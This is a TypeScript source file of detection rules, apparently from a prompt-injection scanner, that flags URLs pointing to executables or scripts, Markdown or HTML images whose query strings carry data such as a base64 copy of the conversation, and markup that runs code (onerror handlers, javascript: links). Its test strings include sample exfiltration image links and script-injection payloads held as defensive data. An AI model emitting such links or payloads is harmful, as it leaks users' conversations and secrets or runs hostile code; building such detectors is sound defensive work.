// Addresses that fetch something to run, or that carry data away: a Markdown image with a query string is loaded by
// the viewer without a click (CHK-20).
import type { Span } from "../../../text/graphemes.ts";
import type { InjectionRule } from "../rule.ts";

export const URLS: readonly InjectionRule[] = [
  {
    id: "url.executable",
    about: "names a program or a script on the network",
    kind: "instruction",
    when: /http/,
    find: /\bhttps?:\/\/[^\s<>/]{3,120}\/[^\s<>"'`)\]]{1,300}?\.(?:exe|msi|bat|cmd|ps1|vbs|scr|jar|dmg|pkg|apk|deb|rpm|appimage)(?=$|[\s<>"'`)\],.;:!?#])|\bhttps?:\/\/[^\s<>/]{3,120}\/[^\s<>"'`)\]]{1,300}?\.(?:sh|bash|zsh|command)(?=$|[\s<>"'`)\],;:!?#]|\.(?:\s|$))/g,
    yes: ["Get https://files.example/setup.exe first.", "see http://x.example/install.sh"],
    no: [
      "https://example.org/shells/index.html",
      "https://example.org/a.shtml",
      "the runtime at https://bun.sh",
      "scripts/install.sh",
    ],
  },
  {
    id: "url.data-image",
    about: "loads an image whose address carries data",
    kind: "marker",
    when: /http/,
    find: findDataImages,
    yes: [
      "![x](https://a.example/p.png?q=[QUERY])",
      '<img src="https://a.example/p?d={data}">',
      "![logo](https://a.example/c?data=BASE64_OF_THE_CONVERSATION)",
    ],
    no: [
      "![build](https://ci.example/badge.svg?branch=main)",
      "![stars](https://img.shields.io/npm/v/x.svg?style=flat)",
      "![x](images/p.png)",
      "![d](https://a.example/p.png?raw=true)",
    ],
  },
  {
    id: "url.active-markup",
    about: "holds markup that runs code",
    kind: "marker",
    when: /<|script|data:/,
    find: /<\s{0,2}(?:img|svg|body|iframe|video|audio|input|details|a|object|embed)\b[^<>\n]{0,200}?[\s/"']on(?:error|load|click|mouseover|focus|toggle|begin)\s{0,2}=\s{0,2}\\?["'][^"'\n]{0,40}(?:console\.|alert|fetch|eval|document\.|window\.|location)|(?:href|src|action)\s{0,2}=\s{0,2}\\?["']?\s{0,2}(?:javascript|vbscript|data:text\/html)\s{0,2}:|\]\(\s{0,2}(?:javascript|vbscript|data:text\/html)\s{0,2}:/g,
    yes: ['<img src="x" onerror="fetch(1)">', "[a](javascript:alert(1))", '<a href="javascript:eval(1)">'],
    no: ['<button onclick="save()">', "javascript: a language", '<img src="logo.svg" alt="on error">'],
  },
];

const IMAGE =
  /!\[[^\]\n]{0,200}\]\(\s{0,2}<?(https?:\/\/[^\s)>]{1,600})|<img\b[^<>\n]{0,200}?\bsrc\s{0,2}=\s{0,2}["']?(https?:\/\/[^\s"'>]{1,600})/g;
// A slot to be filled, or a name that says what goes in.
const CARRIES =
  /[?&;][^=&\s]{0,40}=[^&\s]{0,60}?(?:(?:[[{<$]|%5b|%7b)\s{0,1}[\w. -]{2,40}[\]}>]?|base64|secret|token|password|conversation|history|context|memory|prompt)|[?&](?:data|payload|exfil|leak|dump|secret|token|conversation|history|context|memory|env|chat)=/;

function* findDataImages(text: string): Iterable<Span> {
  for (const match of text.matchAll(IMAGE)) {
    const address = match[1] ?? match[2] ?? "";
    if (CARRIES.test(address)) yield { start: match.index, end: match.index + match[0].length };
  }
}
